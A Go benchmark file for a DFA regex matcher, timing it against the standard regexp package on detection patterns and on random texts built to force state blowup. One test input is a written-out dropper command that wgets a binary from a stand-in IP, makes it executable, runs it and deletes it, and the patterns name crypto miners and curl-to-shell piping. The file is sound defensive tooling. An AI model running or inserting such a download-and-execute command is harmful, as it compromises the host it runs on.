package dfa

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"
)

// hostile is an expression of which each character of a random text of its letters makes a state.
const hostile = `a[ab]{60}c`

// randomText is size letters a and b.
func randomText(seed uint64, size int) []byte {
	r, text := rand.New(rand.NewPCG(seed, 1)), make([]byte, size) //nolint:gosec // the same texts for the same seed
	for i := range text {
		text[i] = "ab"[r.IntN(2)]
	}
	return text
}

func benchmark(b *testing.B, expr string, texts [][]byte) {
	b.Helper()
	d, re, size := New(parse(b, expr)), regexp.MustCompile(expr), 0
	for _, text := range texts {
		size += len(text)
	}
	for name, match := range map[string]func([]byte) bool{"dfa": d.Match, "regexp": re.Match} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(size / len(texts)))
			i := 0
			for b.Loop() {
				match(texts[i%len(texts)])
				i++
			}
		})
	}
}

// BenchmarkMatch is what a command costs that does not match.
func BenchmarkMatch(b *testing.B) {
	text := []byte("cd /tmp || cd /var/run; wget http://198.51.100.7/bins/x86 -O .x; chmod 777 .x; ./.x && rm -rf .x")
	for name, expr := range map[string]string{
		"anchored":     `^(?:echo|printf|cat) [^|]*> ?\S+\.b(?:ase)?64$`,
		"boundary":     `(?i)\b(?:xmrig|minerd|cpuminer|t-rex|kinsing)\b`,
		"alternatives": `(?:^|[;&|]\s*)["'](?:\./|/)[\w./]+ +["']|(?:curl|fetch)[^|]*\| ?(?:ba)?sh`,
	} {
		b.Run(name, func(b *testing.B) { benchmark(b, expr, [][]byte{text}) })
	}
}

// BenchmarkHostile is what texts cost that fill the table, beside regexp: short ones that make states, each others, and a
// long one that makes no more when the table is full.
func BenchmarkHostile(b *testing.B) {
	for _, size := range []int{100, 1000, 100_000} {
		var texts [][]byte
		for i := range max(1, 1_000_000/size) {
			texts = append(texts, randomText(uint64(i), size))
		}
		b.Run(fmt.Sprintf("bytes=%d", size), func(b *testing.B) { benchmark(b, hostile, texts) })
	}
	b.Run("counted", func(b *testing.B) {
		var texts [][]byte
		for i := range 1000 {
			texts = append(texts, []byte(strings.ReplaceAll(string(randomText(uint64(i), 200)), "a", "curl ")))
		}
		benchmark(b, `(?i)\b(?:curl|wget|fetch) .{0,200}b.{0,100}(?:sh|python)x`, texts)
	})
}
